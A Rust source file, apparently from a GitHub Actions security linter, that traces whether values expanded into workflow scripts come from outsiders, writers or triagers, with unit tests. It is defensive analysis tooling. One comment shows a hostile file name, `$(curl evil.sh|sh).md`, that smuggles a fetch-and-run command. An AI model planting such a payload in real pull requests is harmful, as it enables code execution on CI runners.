//! Who controls the value of a context in a workflow or a composite action.
//!
//! A rule that finds `${{ X }}` expanded into code asks a [`Scope`] where `X`
//! comes from. The answer follows the value through the places GitHub copies
//! it: `env.*` (step, then job, then workflow `env:`), `matrix.*` (the job's
//! `strategy.matrix`, its `include:` rows and a `fromJSON(…)` matrix),
//! `needs.<job>.outputs.*` (the other job's `outputs:`), and declared `inputs`.
//! Values computed by scripts (`steps.*.outputs.*`) are not followed: their
//! origin is unknown. A scope made [`Scope::with_weak_origins`] names them
//! ([`Taint::Untraced`]), unless a well-known action gives them a fixed shape or
//! the `run:` that writes them writes literal text and `${{ … }}` only (then the
//! expressions' origins), and label names ([`Taint::Triage`]), for the rule that
//! grades them low; other scopes leave both out.

use std::collections::HashMap;

use crate::parse::gha_expr::{self, Flow};
use crate::parse::yaml::YamlNode;
use crate::workflows::wf;

/// How far a value's author is from the repository's maintainers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Taint {
    /// Computed by a script or an action (`steps.*.outputs.*`) harden does not
    /// follow: nobody can tell from the workflow who controls it.
    Untraced,
    /// Chosen by someone with triage access: a label's name.
    Triage,
    /// Chosen by someone with write access or by the caller: a string input, a
    /// `repository_dispatch` payload. Not an attack by itself, the habit that
    /// becomes one when a caller passes outside data.
    Writer,
    /// Free text anyone can choose: an issue or pull request title or body, a
    /// comment, a commit message or author, a fork's branch name.
    Outsider,
}

/// Where a value comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Origin {
    /// How far its author is from the maintainers.
    pub taint: Taint,
    /// The controlled context (`github.event.issue.title`, `inputs.tag`).
    pub source: String,
    /// The copies it went through on the way (`env.TITLE`, `matrix.title`), outermost first.
    pub via: Vec<String>,
}

impl Origin {
    /// `github.event.issue.title` or `github.event.issue.title (via env.TITLE)`.
    pub fn describe(&self) -> String {
        // A context path is code (`github.head_ref`); a description is prose.
        let source = if self.source.contains(' ') {
            self.source.clone()
        } else {
            format!("`{}`", self.source)
        };
        if self.via.is_empty() {
            source
        } else {
            format!("{source} (via `{}`)", self.via.join("` ← `"))
        }
    }
}

/// Objects whose text fields (and whose JSON dump) an outsider writes.
const OUTSIDER_OBJECTS: &[&str] = &[
    "github.event",
    "github.event.issue",
    "github.event.pull_request",
    "github.event.comment",
    "github.event.review",
    "github.event.review_comment",
    "github.event.discussion",
    "github.event.answer",
    "github.event.head_commit",
    "github.event.commits",
    "github.event.commits.*",
    "github.event.pages",
    "github.event.pages.*",
    "github.event.workflow_run",
    "github.event.workflow_run.head_commit",
    "github.event.merge_group.head_commit",
    "github.event.changes",
];

/// Top-level event objects only maintainers (or apps they install) write.
const MAINTAINER_OBJECTS: &[&str] = &[
    "repository",
    "organization",
    "enterprise",
    "installation",
    "sender",
    "release",
    "milestone",
    "label",
    "project",
    "project_card",
    "project_column",
    "projects_v2_item",
    "deployment",
    "deployment_status",
    "package",
    "registry_package",
    "workflow",
    "check_run",
    "rule",
    "alert",
    "security_advisory",
];

/// Who controls a `github.*` context, judged from the path alone.
pub fn github_taint(path: &str) -> Option<Taint> {
    if path == "github.head_ref" {
        return Some(Taint::Outsider);
    }
    let rest = path.strip_prefix("github.event")?;
    if rest.is_empty() || OUTSIDER_OBJECTS.contains(&path) {
        return Some(Taint::Outsider);
    }
    let rest = rest.strip_prefix('.')?;
    let segs: Vec<&str> = rest.split('.').collect();
    let first = segs.first().copied().unwrap_or("");
    if first == "client_payload" {
        return Some(Taint::Writer);
    }
    if first == "inputs" {
        return None; // handled with the declared input types
    }
    if MAINTAINER_OBJECTS.contains(&first) {
        return None;
    }
    let last = segs.last().copied().unwrap_or("");
    let parent = segs.len().checked_sub(2).and_then(|i| segs.get(i)).copied();
    let grand = segs.len().checked_sub(3).and_then(|i| segs.get(i)).copied();
    // Objects inside the payload that only maintainers write (`pull_request.milestone.title`,
    // `issue.labels.*.name`) or whose text is restricted (logins, repository names).
    if segs.iter().any(|s| {
        matches!(
            *s,
            "milestone" | "labels" | "label" | "assignee" | "assignees" | "base"
        )
    }) && !matches!(last, "ref" | "label")
    {
        return None;
    }
    let outsider = match last {
        "title" | "body" | "message" | "page_name" | "display_title" | "head_branch" => true,
        // `changes.title.from`: the previous title of an edited issue or pull request.
        "from" => first == "changes",
        "email" | "name" => matches!(parent, Some("author" | "committer")),
        "ref" | "label" => parent == Some("head"),
        "default_branch" | "description" | "homepage" => {
            parent == Some("repo") && grand == Some("head")
        }
        _ => false,
    };
    outsider.then_some(Taint::Outsider)
}

/// Outputs of well-known actions whose value has a fixed shape nobody can turn
/// into code: image digests and ids, artifact ids and URLs, pull request numbers
/// and URLs, cache hits. Outputs that carry names chosen in a pull request (changed
/// file lists, tags derived from branch names) are not here.
const FIXED_FORMAT_OUTPUTS: &[(&str, &[&str])] = &[
    ("docker/build-push-action", &["digest", "imageid"]),
    // Blacksmith's drop-in replacement for docker/build-push-action.
    ("useblacksmith/build-push-action", &["digest", "imageid"]),
    (
        "actions/upload-artifact",
        &["artifact-id", "artifact-url", "artifact-digest"],
    ),
    ("actions/cache", &["cache-hit"]),
    ("actions/cache/restore", &["cache-hit"]),
    (
        "actions/attest-build-provenance",
        &["attestation-id", "attestation-url"],
    ),
    (
        "peter-evans/create-pull-request",
        &[
            "pull-request-number",
            "pull-request-url",
            "pull-request-operation",
            "pull-request-head-sha",
        ],
    ),
    ("actions/create-github-app-token", &["installation-id"]),
];

/// Actions whose outputs list the files a change touched: the names are chosen by
/// whoever wrote the commits (a fork's author on a pull request), and a file can be
/// named `$(curl evil.sh|sh).md`. Every output whose name mentions `files` (the
/// lists; counts and booleans such as `any_changed` are left out) is outsider text.
const CHANGED_FILE_ACTIONS: &[&str] = &[
    "tj-actions/changed-files",
    "step-security/changed-files",
    "dorny/paths-filter",
    "jitterbit/get-changed-files",
    "ana06/get-changed-files",
    "trilom/file-changes-action",
    "lots0logs/gh-action-get-changed-files",
    "masesgroup/retrieve-changed-files",
];

/// Commands whose output is text the author of the commits chose: file names and
/// commit messages or author names. A step output computed by a script that runs one
/// of them carries that text.
const OUTSIDER_TEXT_COMMANDS: &[&str] = &[
    "git diff --name-only",
    "git diff --name-status",
    "git show --name-only",
    "git log --format=%s",
    "git log --format=%B",
    "git log -1 --pretty=%B",
    "git log -1 --format=%B",
    "git log -1 --pretty=%s",
    "git log -1 --format=%s",
];

/// The first command of [`OUTSIDER_TEXT_COMMANDS`] `script` runs (spacing folded).
fn prints_outsider_text(script: &str) -> Option<&'static str> {
    let unquoted = script.replace(['"', '\''], "");
    let folded = unquoted.split_whitespace().collect::<Vec<_>>().join(" ");
    OUTSIDER_TEXT_COMMANDS
        .iter()
        .find(|c| folded.contains(*c))
        .copied()
}

/// Whether `name` of a changed-file action is a list of file names.
fn is_file_list_output(action: &str, name: &str) -> bool {
    let action = action.to_ascii_lowercase();
    let name = name.to_ascii_lowercase();
    CHANGED_FILE_ACTIONS.contains(&action.as_str())
        && name.contains("files")
        && !name.contains("count")
        && !name.starts_with("any_")
        && !name.starts_with("only_")
}

/// The values a `run:` script writes to output `name` with `echo "name=…" >>
/// "$GITHUB_OUTPUT"`, when every write is literal text and `${{ … }}` expressions;
/// `None` when one is computed by the shell (`$VAR`, `$(…)`, a backtick), written
/// some other way (a heredoc, a block redirected as a whole), or never written.
fn output_writes<'s>(script: &'s str, name: &str) -> Option<Vec<&'s str>> {
    let key = format!("{}=", name.to_ascii_lowercase());
    let mut values = Vec::new();
    for line in script.lines() {
        let lower = line.to_ascii_lowercase();
        if lower.contains(&format!("{}<<", name.to_ascii_lowercase())) {
            return None;
        }
        let Some(at) = lower.match_indices(&key).map(|(i, _)| i).find(|&i| {
            i == 0
                || lower[..i]
                    .chars()
                    .next_back()
                    .is_some_and(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
        }) else {
            continue;
        };
        if !lower.contains("github_output") {
            continue;
        }
        let rest = &line[at + key.len()..];
        let value = rest
            .split(">>")
            .next()
            .unwrap_or(rest)
            .trim()
            .trim_end_matches(['"', '\'', ' ']);
        let mut shell_text = String::new();
        let mut from = 0;
        for f in gha_expr::fenced(value) {
            shell_text.push_str(value.get(from..f.outer.start).unwrap_or(""));
            from = f.outer.end;
        }
        shell_text.push_str(value.get(from..).unwrap_or(""));
        if shell_text.contains(['$', '`']) {
            return None;
        }
        values.push(value);
    }
    (!values.is_empty()).then_some(values)
}

/// A label's name in the event payload (`github.event.label.name`,
/// `github.event.pull_request.labels.*.name`): free text, but only people with
/// triage access create and apply labels.
fn is_label_name(path: &str) -> bool {
    let Some(rest) = path.strip_prefix("github.event.") else {
        return false;
    };
    let segs: Vec<&str> = rest.split('.').collect();
    segs.last() == Some(&"name")
        && segs
            .iter()
            .rev()
            .skip(1)
            .find(|s| **s != "*")
            .is_some_and(|s| matches!(*s, "label" | "labels"))
}

/// Declared input types: `on.workflow_dispatch.inputs`, `on.workflow_call.inputs`
/// (lower-case name → type; a name declared by both keeps `string` if either says so).
pub fn declared_inputs(root: &YamlNode) -> HashMap<String, String> {
    let mut m: HashMap<String, String> = HashMap::new();
    let on = root.get("on").or_else(|| root.get("true"));
    for trig in ["workflow_dispatch", "workflow_call"] {
        let inputs = on
            .and_then(|on| on.get(trig))
            .and_then(|t| t.get("inputs"))
            .and_then(|i| i.as_map());
        for p in inputs.unwrap_or(&[]) {
            let ty = p
                .value
                .get("type")
                .and_then(|t| t.as_str())
                .unwrap_or("string")
                .to_ascii_lowercase();
            let e = m
                .entry(p.key.to_ascii_lowercase())
                .or_insert_with(|| ty.clone());
            if ty == "string" {
                *e = ty;
            }
        }
    }
    m
}

/// Where in a workflow (or composite action) an expression is evaluated.
#[derive(Clone)]
pub struct Scope<'a> {
    root: &'a YamlNode,
    job: Option<&'a YamlNode>,
    step: Option<&'a YamlNode>,
    inputs: std::rc::Rc<HashMap<String, String>>,
    composite: bool,
    /// A branch or tag name someone pushed can reach `github.ref` (push, release,
    /// dispatch, a caller's ref); under `pull_request*` and comment events it is a
    /// fixed `refs/pull/N/merge` or the base branch.
    pushed_refs: bool,
    /// Also name untraced step outputs and label names (see [`Scope::with_weak_origins`]).
    weak: bool,
}

const MAX_DEPTH: usize = 6;

/// `push:` limited to branches and tags named literally (`branches: [main]`, no
/// glob, no `tags:` pattern) gives `github.ref` only those names, which nobody
/// chooses at push time.
fn push_names_fixed(root: &YamlNode) -> bool {
    let Some(push) = root
        .get("on")
        .or_else(|| root.get("true"))
        .and_then(|on| on.get("push"))
    else {
        return false;
    };
    let literal = |key: &str| {
        push.get(key).is_some_and(|v| {
            let names = v.strings();
            !names.is_empty() && names.iter().all(|n| !n.contains(['*', '?', '[', '!', '+']))
        })
    };
    let filters_branches = push.get("branches").is_some();
    let filters_tags = push.get("tags").is_some();
    (filters_branches || filters_tags)
        && (!filters_branches || literal("branches"))
        && (!filters_tags || literal("tags"))
}

/// Whether one of these events lets someone choose the name in `github.ref`.
fn pushed_refs(root: &YamlNode, events: &[String]) -> bool {
    events.iter().any(|t| match t.as_str() {
        "push" => !push_names_fixed(root),
        "create" | "delete" | "release" | "workflow_dispatch" | "workflow_call" => true,
        _ => false,
    })
}

/// The one event a job's or step's `if:` limits it to: `github.event_name == 'push'`,
/// alone or in a conjunction (`… && github.event_name == 'push'`). A condition with
/// `||` or `!` could hold on other events too, so it limits nothing.
fn only_event(node: &YamlNode) -> Option<String> {
    let cond = node.get("if")?.as_str()?;
    let c = cond.trim();
    let c = c
        .strip_prefix("${{")
        .and_then(|c| c.strip_suffix("}}"))
        .unwrap_or(c);
    if c.contains("||") || c.contains('!') {
        return None;
    }
    let mut found = None;
    for part in c.split("&&") {
        let part = part.trim().trim_matches(['(', ')']).trim();
        let Some((lhs, rhs)) = part.split_once("==") else {
            continue;
        };
        let (lhs, rhs) = (lhs.trim(), rhs.trim());
        let value = if lhs.eq_ignore_ascii_case("github.event_name") {
            rhs
        } else if rhs.eq_ignore_ascii_case("github.event_name") {
            lhs
        } else {
            continue;
        };
        let value = value.strip_prefix('\'')?.strip_suffix('\'')?;
        if found.replace(value.to_ascii_lowercase()).is_some() {
            return None;
        }
    }
    found
}

impl<'a> Scope<'a> {
    /// The scope narrowed to the one event an `if:` allows (see [`only_event`]): a
    /// step under `if: github.event_name == 'push'` in a workflow also triggered by
    /// `release` sees only the pushed branch names.
    fn narrowed(mut self, node: &YamlNode) -> Self {
        if let Some(event) = only_event(node) {
            let triggers = wf::triggers(self.root);
            // An event the workflow does not have (or a reusable workflow, which runs
            // with its caller's event) tells nothing.
            if triggers.contains(&event) && !self.composite {
                self.pushed_refs = self.pushed_refs && pushed_refs(self.root, &[event]);
            }
        }
        self
    }

    /// The top level of a workflow.
    pub fn workflow(root: &'a YamlNode) -> Self {
        let events = wf::triggers(root);
        Scope {
            root,
            job: None,
            step: None,
            inputs: std::rc::Rc::new(declared_inputs(root)),
            composite: false,
            pushed_refs: pushed_refs(root, &events),
            weak: false,
        }
    }

    /// The same scope, also answering for values whose author harden cannot name
    /// (step outputs) or that only triagers choose (label names): the injection rule
    /// reports them at a low severity; rules that act only on outsider or writer
    /// data keep the default.
    pub fn with_weak_origins(mut self) -> Self {
        self.weak = true;
        self
    }

    /// The top level of a composite action (every input is a string).
    pub fn action(root: &'a YamlNode) -> Self {
        Scope {
            root,
            job: None,
            step: None,
            inputs: std::rc::Rc::new(HashMap::new()),
            composite: true,
            pushed_refs: true,
            weak: false,
        }
    }

    /// Inside a job.
    pub fn job(&self, job: &'a YamlNode) -> Self {
        Scope {
            job: Some(job),
            step: None,
            ..self.clone()
        }
        .narrowed(job)
    }

    /// Inside a step.
    pub fn step(&self, step: &'a YamlNode) -> Self {
        Scope {
            step: Some(step),
            ..self.clone()
        }
        .narrowed(step)
    }

    /// The workflow or action root.
    pub fn root(&self) -> &'a YamlNode {
        self.root
    }

    /// The origins of every controlled value that can become the value of `expr`,
    /// with the flow each came through.
    pub fn origins(&self, expr: &gha_expr::Expr) -> Vec<(Flow, Origin)> {
        self.origins_at(expr, 0)
    }

    fn origins_at(&self, expr: &gha_expr::Expr, depth: usize) -> Vec<(Flow, Origin)> {
        let mut out = Vec::new();
        for f in expr.flows() {
            let Some(path) = &f.path else { continue };
            if let Some(o) = self.origin_of(path, depth) {
                out.push((f.clone(), o));
            }
        }
        out
    }

    /// The origins of the expressions inside a scalar's text (an `env:` value,
    /// a matrix row), evaluated in this scope.
    pub fn origins_in_text(&self, text: &str) -> Vec<Origin> {
        self.text_origins(text, 0)
    }

    fn text_origins(&self, text: &str, depth: usize) -> Vec<Origin> {
        if depth > MAX_DEPTH {
            return Vec::new();
        }
        let mut out = Vec::new();
        for f in gha_expr::fenced(text) {
            let Ok(e) = gha_expr::parse(&text[f.inner]) else {
                continue;
            };
            out.extend(self.origins_at(&e, depth + 1).into_iter().map(|(_, o)| o));
        }
        out
    }

    /// Who controls the context at `path` (lower-case), following copies.
    pub fn origin_of(&self, path: &str, depth: usize) -> Option<Origin> {
        if depth > MAX_DEPTH {
            return None;
        }
        let (head, tail) = path.split_once('.').unwrap_or((path, ""));
        match head {
            "github" => {
                if let Some(name) = tail.strip_prefix("event.inputs.") {
                    return self.input_origin(name);
                }
                if matches!(tail, "ref" | "ref_name") && self.pushed_refs {
                    return Some(Origin {
                        taint: Taint::Writer,
                        source: path.to_string(),
                        via: Vec::new(),
                    });
                }
                github_taint(path)
                    .or_else(|| (self.weak && is_label_name(path)).then_some(Taint::Triage))
                    .map(|taint| Origin {
                        taint,
                        source: path.to_string(),
                        via: Vec::new(),
                    })
            }
            "steps" if self.weak => {
                let mut parts = tail.splitn(3, '.');
                let (id, outputs, name) = (parts.next()?, parts.next()?, parts.next()?);
                if outputs != "outputs" {
                    return None; // `steps.x.outcome` / `conclusion`: fixed words
                }
                let name = name.split('.').next().unwrap_or(name);
                if let Some(found) = self.step_output_origins(id, name, depth) {
                    return best(found, format!("steps.{id}.outputs.{name}"));
                }
                Some(Origin {
                    taint: Taint::Untraced,
                    source: format!("steps.{id}.outputs.{name}"),
                    via: Vec::new(),
                })
            }
            "inputs" => self.input_origin(tail),
            "env" => self.env_origin(tail, depth),
            "matrix" => self.matrix_origin(tail, depth),
            "needs" => self.needs_origin(tail, depth),
            _ => None,
        }
    }

    /// Where output `name` of step `id` (of this job, or of this composite action)
    /// comes from, when harden can tell: `Some(empty)` for a well-known action's
    /// fixed-shape output or a `run:` that writes only literal text; `Some(origins)`
    /// when every write is literal text around `${{ … }}` expressions (their origins);
    /// `None` when a write computes the value (`$(…)`, `$VAR`) or none is found.
    fn step_output_origins(&self, id: &str, name: &str, depth: usize) -> Option<Vec<Origin>> {
        let steps = match self.job {
            Some(job) => wf::steps(job),
            None => wf::action_steps(self.root),
        };
        let producer = steps.into_iter().find(|s| {
            s.get("id")
                .and_then(|i| i.as_str())
                .is_some_and(|i| i.eq_ignore_ascii_case(id))
        })?;
        if let Some(uses) = producer.get("uses").and_then(|u| u.as_str()) {
            let action = wf::action_name(uses);
            if is_file_list_output(&action, name) {
                return Some(vec![Origin {
                    taint: Taint::Outsider,
                    source: format!("the file names `{action}` lists"),
                    via: Vec::new(),
                }]);
            }
            let fixed = FIXED_FORMAT_OUTPUTS
                .iter()
                .any(|(a, outs)| *a == action && outs.iter().any(|o| o.eq_ignore_ascii_case(name)));
            return fixed.then(Vec::new);
        }
        let script = producer.get("run").and_then(|r| r.as_str())?;
        let Some(values) = output_writes(script, name) else {
            let written = script
                .to_ascii_lowercase()
                .contains(&format!("{}=", name.to_ascii_lowercase()));
            return prints_outsider_text(script)
                .filter(|_| written)
                .map(|command| {
                    vec![Origin {
                        taint: Taint::Outsider,
                        source: format!("the text `{command}` prints"),
                        via: Vec::new(),
                    }]
                });
        };
        let outer = Scope {
            step: Some(producer),
            ..self.clone()
        };
        Some(
            values
                .iter()
                .flat_map(|v| outer.text_origins(v, depth + 1))
                .collect(),
        )
    }

    fn input_origin(&self, name: &str) -> Option<Origin> {
        let name = name.split('.').next().unwrap_or(name);
        let ty = if self.composite {
            "string"
        } else {
            self.inputs
                .get(name)
                .map(String::as_str)
                .unwrap_or("string")
        };
        (ty == "string").then(|| Origin {
            taint: Taint::Writer,
            source: format!("inputs.{name}"),
            via: Vec::new(),
        })
    }

    fn env_origin(&self, name: &str, depth: usize) -> Option<Origin> {
        let name = name.split('.').next().unwrap_or(name);
        // The innermost `env:` that defines the name wins; its value is evaluated
        // in the scope outside it.
        let layers: [(Option<&YamlNode>, Scope<'a>); 3] = [
            (
                self.step,
                Scope {
                    step: None,
                    ..self.clone()
                },
            ),
            (
                self.job,
                Scope {
                    step: None,
                    job: None,
                    ..self.clone()
                },
            ),
            (
                Some(self.root),
                Scope {
                    step: None,
                    job: None,
                    ..self.clone()
                },
            ),
        ];
        for (node, outer) in layers {
            let Some(env) = node.and_then(|n| n.get("env")).and_then(|e| e.as_map()) else {
                continue;
            };
            let Some(pair) = env.iter().find(|p| p.key.eq_ignore_ascii_case(name)) else {
                continue;
            };
            let text = pair.value.as_str()?;
            return best(
                outer.text_origins(text, depth + 1),
                format!("env.{}", pair.key),
            );
        }
        None
    }

    fn matrix_origin(&self, name: &str, depth: usize) -> Option<Origin> {
        let name = name.split('.').next().unwrap_or(name);
        let matrix = self.job?.at(&["strategy", "matrix"])?;
        let outer = Scope {
            step: None,
            ..self.clone()
        };
        let via = format!("matrix.{name}");
        let mut found = Vec::new();
        if let Some(text) = matrix.as_str() {
            found.extend(outer.text_origins(text, depth + 1));
        }
        for pair in matrix.as_map().unwrap_or(&[]) {
            let key = pair.key.to_ascii_lowercase();
            if key == name {
                found.extend(scalar_texts(&pair.value, |t| {
                    outer.text_origins(t, depth + 1)
                }));
            } else if key == "include" {
                if let Some(text) = pair.value.as_str() {
                    found.extend(outer.text_origins(text, depth + 1));
                }
                for row in pair.value.as_seq().unwrap_or(&[]) {
                    if let Some(text) = row.as_str() {
                        found.extend(outer.text_origins(text, depth + 1));
                    }
                    for cell in row.as_map().unwrap_or(&[]) {
                        if cell.key.eq_ignore_ascii_case(name) {
                            found.extend(scalar_texts(&cell.value, |t| {
                                outer.text_origins(t, depth + 1)
                            }));
                        }
                    }
                }
            }
        }
        best(found, via)
    }

    fn needs_origin(&self, tail: &str, depth: usize) -> Option<Origin> {
        let mut parts = tail.splitn(3, '.');
        let (job_id, outputs, name) = (parts.next()?, parts.next()?, parts.next()?);
        if outputs != "outputs" {
            return None;
        }
        let name = name.split('.').next().unwrap_or(name);
        let other = wf::jobs(self.root)
            .iter()
            .find(|j| j.key.eq_ignore_ascii_case(job_id))?;
        let value = other
            .value
            .get("outputs")?
            .as_map()?
            .iter()
            .find(|p| p.key.eq_ignore_ascii_case(name))?;
        let text = value.value.as_str()?;
        let scope = Scope {
            step: None,
            job: Some(&other.value),
            ..self.clone()
        };
        best(
            scope.text_origins(text, depth + 1),
            format!("needs.{job_id}.outputs.{name}"),
        )
    }
}

/// Every string under a node (a scalar, a list of scalars, nested lists), mapped by `f`.
fn scalar_texts<T>(node: &YamlNode, mut f: impl FnMut(&str) -> Vec<T>) -> Vec<T> {
    let mut out = Vec::new();
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        if let Some(t) = n.as_str() {
            out.extend(f(t));
        }
        if let Some(items) = n.as_seq() {
            stack.extend(items.iter());
        }
    }
    out
}

/// The most controlled origin, with `via` recorded as the copy it went through.
fn best(found: Vec<Origin>, via: String) -> Option<Origin> {
    let mut o = found.into_iter().max_by_key(|o| o.taint)?;
    o.via.insert(0, via);
    Some(o)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::yaml;

    #[test]
    fn conditions_that_name_one_event() {
        let only = |cond: &str| {
            let y = yaml::parse(&format!("if: \"{cond}\"\n"));
            let root = y.documents[0].root.clone().expect("root");
            only_event(&root)
        };
        assert_eq!(
            only("${{ github.event_name == 'push' }}").as_deref(),
            Some("push")
        );
        assert_eq!(
            only("github.repository == 'a/b' && github.event_name == 'release'").as_deref(),
            Some("release")
        );
        assert_eq!(only("github.event_name != 'push'"), None);
        assert_eq!(
            only("github.event_name == 'push' || github.event_name == 'release'"),
            None
        );
        assert_eq!(only("success()"), None);
    }

    #[test]
    fn event_fields() {
        for p in [
            "github.event.issue.title",
            "github.event.pull_request.body",
            "github.event.comment.body",
            "github.event.head_commit.message",
            "github.event.commits.*.author.email",
            "github.event.pull_request.head.ref",
            "github.event.pull_request.head.label",
            "github.event.pull_request.head.repo.default_branch",
            "github.event.workflow_run.head_branch",
            "github.event.workflow_run.pull_requests.*.head.ref",
            "github.event.pages.*.page_name",
            "github.event.changes.title.from",
            "github.event.discussion.title",
            "github.event",
            "github.event.pull_request",
            "github.head_ref",
        ] {
            assert_eq!(github_taint(p), Some(Taint::Outsider), "{p}");
        }
        for p in [
            "github.event.repository.default_branch",
            "github.event.pull_request.number",
            "github.event.pull_request.head.sha",
            "github.event.pull_request.user.login",
            "github.event.pull_request.labels.*.name",
            "github.event.pull_request.milestone.title",
            "github.event.pull_request.base.ref",
            "github.event.release.body",
            "github.event.label.name",
            "github.ref",
            "github.ref_name",
            "github.sha",
            "github.repository_owner",
        ] {
            assert_eq!(github_taint(p), None, "{p}");
        }
        assert_eq!(
            github_taint("github.event.client_payload.mystery"),
            Some(Taint::Writer)
        );
    }

    fn root(text: &str) -> YamlNode {
        yaml::parse(text).documents[0].root.clone().unwrap()
    }

    #[test]
    fn env_matrix_and_needs_are_followed() {
        let r = root(
            "on: issues\nenv:\n  T: ${{ github.event.issue.title }}\n  S: static\njobs:\n  a:\n    outputs:\n      t: ${{ github.event.issue.body }}\n    steps: []\n  b:\n    env:\n      S: ${{ github.event.comment.body }}\n    strategy:\n      matrix:\n        x: [a, b]\n        include:\n          - y: ${{ github.event.issue.title }}\n    steps:\n      - run: x\n        env:\n          T: fixed\n",
        );
        let wf_scope = Scope::workflow(&r);
        let job = &wf::jobs(&r)[1].value;
        let js = wf_scope.job(job);
        let step = wf::steps(job)[0];
        let ss = js.step(step);
        assert_eq!(
            js.origin_of("env.t", 0).map(|o| o.describe()),
            Some("`github.event.issue.title` (via `env.T`)".to_string())
        );
        assert_eq!(ss.origin_of("env.t", 0), None);
        assert_eq!(
            ss.origin_of("env.s", 0).map(|o| o.source),
            Some("github.event.comment.body".into())
        );
        assert_eq!(js.origin_of("matrix.x", 0), None);
        assert_eq!(
            js.origin_of("matrix.y", 0).map(|o| o.via),
            Some(vec!["matrix.y".to_string()])
        );
        assert_eq!(
            js.origin_of("needs.a.outputs.t", 0).map(|o| o.source),
            Some("github.event.issue.body".into())
        );
    }

    #[test]
    fn dynamic_matrix_and_typed_inputs() {
        let r = root(
            "on:\n  workflow_dispatch:\n    inputs:\n      dry:\n        type: boolean\n      tag:\n        type: string\njobs:\n  a:\n    strategy:\n      matrix: ${{ fromJSON(github.event.client_payload.m) }}\n    steps: []\n",
        );
        let js = Scope::workflow(&r).job(&wf::jobs(&r)[0].value);
        assert_eq!(
            js.origin_of("matrix.anything", 0).map(|o| o.taint),
            Some(Taint::Writer)
        );
        assert_eq!(js.origin_of("inputs.dry", 0), None);
        assert_eq!(
            js.origin_of("github.event.inputs.tag", 0).map(|o| o.source),
            Some("inputs.tag".into())
        );
    }

    #[test]
    fn weak_origins_only_when_asked() {
        let r = root(
            "on: pull_request\njobs:\n  a:\n    steps:\n      - id: v\n        run: echo \"v=$(cat VERSION)\" >> \"$GITHUB_OUTPUT\"\n      - id: push\n        uses: docker/build-push-action@v6\n      - env:\n          V: ${{ steps.v.outputs.v }}\n        run: echo\n",
        );
        let job = &wf::jobs(&r)[0].value;
        let step = wf::steps(job)[2];
        let plain = Scope::workflow(&r).job(job).step(step);
        assert_eq!(plain.origin_of("steps.v.outputs.v", 0), None);
        assert_eq!(plain.origin_of("github.event.label.name", 0), None);
        let weak = Scope::workflow(&r).with_weak_origins().job(job).step(step);
        assert_eq!(
            weak.origin_of("env.v", 0).map(|o| (o.taint, o.source)),
            Some((Taint::Untraced, "steps.v.outputs.v".into()))
        );
        assert_eq!(weak.origin_of("steps.v.outcome", 0), None);
        assert_eq!(weak.origin_of("steps.push.outputs.digest", 0), None);
        for p in [
            "github.event.label.name",
            "github.event.pull_request.labels.*.name",
            "github.event.changes.new_discussion.labels.*.name",
        ] {
            assert_eq!(
                weak.origin_of(p, 0).map(|o| o.taint),
                Some(Taint::Triage),
                "{p}"
            );
        }
        assert_eq!(
            weak.origin_of("github.event.pull_request.head.label", 0)
                .map(|o| o.taint),
            Some(Taint::Outsider)
        );
        assert_eq!(weak.origin_of("github.event.pull_request.number", 0), None);
    }

    #[test]
    fn changed_file_lists_are_outsider_text() {
        let r = root(
            "on: pull_request\njobs:\n  a:\n    steps:\n      - id: changed\n        uses: tj-actions/changed-files@v46\n      - id: filter\n        uses: dorny/paths-filter@v3\n      - run: echo\n",
        );
        let job = &wf::jobs(&r)[0].value;
        let weak = Scope::workflow(&r)
            .with_weak_origins()
            .job(job)
            .step(wf::steps(job)[2]);
        for p in [
            "steps.changed.outputs.all_changed_files",
            "steps.changed.outputs.modified_files",
            "steps.filter.outputs.docs_files",
        ] {
            let o = weak.origin_of(p, 0);
            assert_eq!(o.as_ref().map(|o| o.taint), Some(Taint::Outsider), "{p}");
            assert_eq!(o.map(|o| o.via), Some(vec![p.to_string()]), "{p}");
        }
        for p in [
            "steps.changed.outputs.any_changed",
            "steps.changed.outputs.all_changed_files_count",
            "steps.filter.outputs.docs",
        ] {
            assert_eq!(
                weak.origin_of(p, 0).map(|o| o.taint),
                Some(Taint::Untraced),
                "{p}"
            );
        }
    }

    #[test]
    fn run_step_outputs_are_traced_when_written_literally() {
        let r = root(
            "on:\n  workflow_dispatch:\n    inputs:\n      mode:\n        type: string\njobs:\n  a:\n    steps:\n      - id: ctx\n        run: |\n          if [ \"$X\" = prod ]; then\n            echo \"TARGET=main\" >> $GITHUB_OUTPUT\n          else\n            echo \"TARGET=uat\" >> $GITHUB_OUTPUT\n          fi\n          echo \"mode=${{ inputs.mode }}\" >> \"$GITHUB_OUTPUT\"\n          echo \"sub_target=$(date)\" >> \"$GITHUB_OUTPUT\"\n          echo \"count=$(git rev-list --count HEAD)\" >> \"$GITHUB_OUTPUT\"\n      - run: echo\n",
        );
        let job = &wf::jobs(&r)[0].value;
        let weak = Scope::workflow(&r)
            .with_weak_origins()
            .job(job)
            .step(wf::steps(job)[1]);
        assert_eq!(weak.origin_of("steps.ctx.outputs.target", 0), None);
        assert_eq!(
            weak.origin_of("steps.ctx.outputs.mode", 0)
                .map(|o| (o.taint, o.source, o.via)),
            Some((
                Taint::Writer,
                "inputs.mode".into(),
                vec!["steps.ctx.outputs.mode".into()]
            ))
        );
        assert_eq!(
            weak.origin_of("steps.ctx.outputs.count", 0)
                .map(|o| o.taint),
            Some(Taint::Untraced)
        );
        assert_eq!(
            weak.origin_of("steps.ctx.outputs.missing", 0)
                .map(|o| o.taint),
            Some(Taint::Untraced)
        );
    }
}
